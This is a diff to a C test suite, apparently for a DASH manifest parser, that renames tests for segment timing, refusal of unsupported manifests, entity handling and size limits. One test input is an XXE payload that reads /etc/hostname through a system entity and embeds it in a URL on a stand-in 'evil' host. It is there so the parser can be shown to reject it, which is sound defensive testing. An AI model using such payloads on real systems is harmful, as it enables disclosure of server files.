@@ -85,7 +85,7 @@ Test(mpd, an_open_repetition_ends_now_or_at_the_next_run)
 	mpd_free(m);
 }
 
-Test(mpd, segments_of_one_length_are_told_by_the_clock)
+Test(mpd, the_clock_decides_which_segments_of_one_length_exist)
 {
 	struct mpd *m = parse(MPD(
 		" timeShiftBufferDepth=\"PT20S\"",
@@ -171,7 +171,7 @@ Test(mpd, periods_follow_each_other)
 	mpd_free(m);
 }
 
-Test(mpd, the_last_segment_of_a_period_is_there_once_that_is_over)
+Test(mpd, the_last_segment_of_a_period_exists_after_its_end)
 {
 	struct mpd *m = parse("<MPD type=\"dynamic\"" STARTED ">" PERIOD("PT0S", "film")
 				      PERIOD("PT30S", "ad") PERIOD("PT60S", "next") "</MPD>");
@@ -195,7 +195,7 @@ Test(mpd, only_the_newest_segments_are_kept)
 	mpd_free(m);
 }
 
-Test(mpd, a_finished_one_lists_all_it_has)
+Test(mpd, a_finished_manifest_lists_every_segment)
 {
 	struct buf text = BUF_INIT;
 	struct mpd *m = parse("<MPD type=\"static\" mediaPresentationDuration=\"PT25S\">" PERIOD(
@@ -212,7 +212,7 @@ Test(mpd, a_finished_one_lists_all_it_has)
 	mpd_free(m);
 }
 
-Test(mpd, what_cannot_be_played_is_refused)
+Test(mpd, unsupported_manifests_are_refused)
 {
 	refuse("", "the DASH manifest cannot be read");
 	refuse("<MPD type=\"dynamic\">", "the DASH manifest cannot be read");
@@ -237,7 +237,7 @@ static void refuse_bytes(const char *xml, size_t n)
 }
 
 /* An entity may name a file; its declaration may hide in another encoding. */
-Test(mpd, no_encoding_hides_an_entity)
+Test(mpd, entities_are_refused_in_every_encoding)
 {
 	static const char text[] = "<!DOCTYPE MPD [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>"
 				   "<MPD type=\"dynamic\"><BaseURL>http://evil/&x;</BaseURL></MPD>";
@@ -256,7 +256,7 @@ Test(mpd, no_encoding_hides_an_entity)
 }
 
 /* A manifest of a few KB does not become gigabytes of addresses, nor minutes of work. */
-Test(mpd, a_manifest_cannot_grow)
+Test(mpd, the_size_of_a_manifest_is_bounded)
 {
 	struct buf xml = BUF_INIT;
 	const char *problem;
@@ -280,7 +280,7 @@ Test(mpd, a_manifest_cannot_grow)
 	buf_done(&xml);
 }
 
-Test(mpd, values_without_sense_make_no_segments)
+Test(mpd, nonsensical_values_make_no_segments)
 {
 	static const char *const templates[] = {
 		"<SegmentTemplate timescale=\"0\" duration=\"1\" media=\"a\"/>",
@@ -310,7 +310,7 @@ Test(mpd, values_without_sense_make_no_segments)
 	}
 }
 
-Test(mpd, a_manifest_is_known_by_its_first_bytes)
+Test(mpd, a_manifest_is_recognised_by_its_first_bytes)
 {
 	static const char yes[] = "<?xml version=\"1.0\"?>\n<!-- made by x -->\n<MPD ";
 
